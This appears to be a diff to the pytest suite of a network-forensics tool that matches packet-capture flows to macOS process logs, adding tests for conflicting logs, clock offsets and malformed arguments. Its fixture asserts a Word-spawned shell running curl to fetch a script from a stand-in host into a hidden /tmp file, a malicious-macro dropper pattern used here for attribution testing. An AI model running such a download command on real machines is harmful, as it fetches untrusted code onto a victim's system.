@@ -43,7 +43,8 @@ def curl_flow(lines):
 
 def test_flows_know_their_programs():
     flow = curl_flow(records("--host-log", LOG, "--record", "flow"))
-    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812, "path": "/usr/bin/curl", "parent": "sh"}
+    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812, "path": "/usr/bin/curl", "parent": "sh",
+                               "ancestry": "sh < Microsoft Word < launchd"}
     assert flow["flow"]["ancestors"] == ["sh", "Microsoft Word", "launchd"]
     assert flow["flow"]["responsible"] == WORD
     assert flow["flow"]["arguments"] == "curl -s http://updates.sample.example/install.sh -o /tmp/.i"
@@ -90,16 +91,16 @@ def moved(tmp_path, name, replacements):
 
 def test_two_macs_with_the_same_pids(tmp_path):
     """Each log counts for its Mac's flows only."""
-    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/local\\/bin\\/other")])
+    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/local\\/bin\\/curl")])
     mine, theirs = "192.168.7.23=%s" % LOG, "192.168.7.24,fd00::24=%s" % other
     for logs in ((mine, theirs), (theirs, mine)):
         lines = records("--host-log", logs[0], "--host-log", logs[1], "--record", "flow,process")
         assert curl_flow(lines)["process"]["path"] == "/usr/bin/curl"
         hosts = {(line["process"]["path"], line["src_ip"], line["endpoint"]["host"]) for line in of("process", lines) if line["process"]["pid"] == 812
                  and line["endpoint"]["action"] == "exec"}
-        assert hosts == {("/usr/bin/curl", "192.168.7.23", "192.168.7.23"), ("/usr/local/bin/other", "192.168.7.24", "192.168.7.24")}
+        assert hosts == {("/usr/bin/curl", "192.168.7.23", "192.168.7.23"), ("/usr/local/bin/curl", "192.168.7.24", "192.168.7.24")}
     swapped = records("--host-log", "192.168.7.23=%s" % other, "--host-log", "192.168.7.24=%s" % LOG, "--record", "flow")
-    assert curl_flow(swapped)["process"]["path"] == "/usr/local/bin/other"
+    assert curl_flow(swapped)["process"]["path"] == "/usr/local/bin/curl"
     nobody = records("--host-log", "192.168.7.99=%s" % LOG, "--record", "flow")
     assert "path" not in curl_flow(nobody)["process"]
 
@@ -172,6 +173,72 @@ def test_compressed_and_from_a_pipe(tmp_path):
     assert curl_flow(piped)["process"]["path"] == "/usr/bin/curl"
 
 
+def stats(*arguments):
+    record, = of("stats", records("--record", "stats", *arguments))
+    return record["stats"]["host"]
+
+
+def test_a_log_of_another_mac_is_not_believed(tmp_path):
+    """Its pid 812 is another program than the kernel's curl: the kernel is right, and the log is counted."""
+    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/bin\\/nc")])
+    flow = curl_flow(records("--host-log", other, "--record", "flow"))
+    assert flow["process"] == {"program": "curl", "name": "curl", "pid": 812} and "ancestors" not in flow["flow"]
+    wrong, right = stats("--host-log", other), stats("--host-log", LOG)
+    assert wrong["contradicted"] >= 1 and wrong["joined"] >= 1  # Safari is Safari
+    assert right["contradicted"] == 0 and right["joined"] == wrong["joined"] + wrong["contradicted"]
+
+
+@pytest.mark.parametrize("offset", ["-1.5", "-0.1", "0.1", "1.5"])
+def test_a_clock_a_little_off_puts_no_false_program_on_a_flow(offset):
+    """Around its exec, curl is sh in the log: the name tells which of the two it was."""
+    flow = curl_flow(records("--host-log", LOG, "--host-clock-offset=" + offset, "--record", "flow"))
+    assert flow["process"]["path"] == "/usr/bin/curl" and flow["process"]["ancestry"] == "sh < Microsoft Word < launchd"
+
+
+def said_at_the_end(*arguments):
+    done = subprocess.run([LUNETTE, "replay", "--no-scripts", *map(str, arguments)], capture_output=True, timeout=60, check=False)
+    assert done.returncode == 0, done.stderr.decode()
+    return " ".join(done.stdout.decode().split()), " ".join(done.stderr.decode().split())
+
+
+@pytest.mark.parametrize("more", [[], ["-w", "3"], ["--pace", "1000x", "--control", "none"]])
+def test_the_summary_says_what_joined(more):
+    shown, warned = said_at_the_end("--host-log", "192.168.7.23=%s" % LOG, *more, CAPTURE)
+    assert "host logs 9 lines, 9 news of processes and sockets, 2024-06-13 09:20:00 to 2024-06-13 09:20:09 UTC" in shown
+    assert "joined 4 of 4 flows found their program there, 0 contradicted; 0 news late" in shown and not warned
+
+
+def plain_capture(tmp_path):
+    """The same packets without a word of processes."""
+    if not _has("tshark"):
+        pytest.skip("needs tshark")
+    plain = tmp_path / "plain.pcap"
+    subprocess.run(["tshark", "-r", CAPTURE, "-F", "pcap", "-w", plain], capture_output=True, check=True)
+    return plain
+
+
+def test_a_log_that_joins_nothing_is_warned_of(tmp_path):
+    assert "they are of 2024-06-14 09:20:00 to" in said_at_the_end("--host-log", LOG, "--host-clock-offset", "86400", CAPTURE)[1]
+    assert "192.168.7.99=…: no flow is of that address" in said_at_the_end("--host-log", "192.168.7.99=%s" % LOG, CAPTURE)[1]
+    assert "the capture names no processes, and the logs no sockets" in said_at_the_end("--host-log", LOG, plain_capture(tmp_path))[1]
+    other = moved(tmp_path, "other", [("\\/usr\\/bin\\/curl", "\\/usr\\/bin\\/nc"), ("MacOS\\/Safari", "MacOS\\/Firefox")])
+    shown, warned = said_at_the_end("--host-log", other, CAPTURE)
+    assert "0 of 4 flows" in shown and "4 contradicted" in shown and "are they of another Mac" in warned
+
+
+def test_what_is_told_twice_comes_once(tmp_path):
+    """The same log twice, the same lines twice in a file, and Santa a millisecond behind eslogger."""
+    double = tmp_path / "double"
+    double.write_text(LOG.read_text() * 2)
+    santa = tmp_path / "santa.log"
+    santa.write_text("[2024-06-13T09:20:04.003Z] I santad: action=EXEC|decision=ALLOW|pid=811|ppid=700|uid=501|user=anna|path=/bin/sh|args=sh\n")
+    once = [line["endpoint"]["action"] for line in of("process", records("--host-log", LOG, "--record", "process"))]
+    assert len(once) == 9
+    for logs in ([LOG, LOG], [double], [LOG, santa]):
+        told = of("process", records(*[word for log in logs for word in ("--host-log", log)], "--record", "process"))
+        assert sorted(line["endpoint"]["action"] for line in told) == sorted(once), logs
+
+
 def test_a_pipe_is_for_one_worker():
     lines, said = run("--no-scripts", "-o", "-", "-w", "2", "--host-log", "-", "--record", "flow", CAPTURE, stdin=LOG.read_bytes())
     assert "one worker instead of 2" in said and curl_flow(lines)["process"]["path"] == "/usr/bin/curl"
@@ -192,11 +259,32 @@ def test_a_file_of_something_else(tmp_path):
     assert "nothing in it was understood" in said
 
 
+@pytest.mark.parametrize("text", ['[{"timestamp":"x"},', '[\n  {', '{\n  "timestamp" : "x"\n}'])
+def test_json_that_is_not_a_line_each(tmp_path, text):
+    log = tmp_path / "log"
+    log.write_text(text + "\n")
+    assert "one JSON object a line is expected (of log: --style ndjson" in run("--no-scripts", "--host-log", log, CAPTURE, code=1)[1]
+
+
+def test_a_file_with_an_equals_sign(tmp_path):
+    log = tmp_path / "day=1"
+    log.write_bytes(LOG.read_bytes())
+    done = subprocess.run([LUNETTE, "replay", "-q", "--no-scripts", "--host-log", "day=1", CAPTURE], cwd=tmp_path, capture_output=True, timeout=60, check=False)
+    assert done.returncode == 0 and not done.stderr
+
+
 @pytest.mark.parametrize("arguments,said", [
     (["--host-log", "nowhere/at.all"], "--host-log nowhere/at.all: cannot be opened"),
     (["--host-log", "192.168.7.300=x"], "is no list of addresses"),
     (["--host-log", "192.168.7.23="], "expected FILE"),
     (["--host-clock-offset", "soon"], "expected SECONDS"),
+    (["--host-log", "localhost=x"], "'localhost' is no list of addresses"),
+    (["--host-log", "192.168.7.0/24=x"], "is no list of addresses"),
+    (["--host-log", "[fd00::1]=x"], "is no list of addresses"),
+    (["--host-log", "/tmp"], "a directory; the file of a host log"),
+    (["--host-clock-offset", "1"], "there is none"),
+    (["--host-log", "-", "-"], "not both"),
+    (["--host-log", "-", "--host-log", "10.0.0.1=-"], "once only"),
     (["--host-log", str(LOG), "--host-clock-offset", "10.0.0.1=2"], "no --host-log is of that address"),
 ])
 def test_slips(arguments, said):
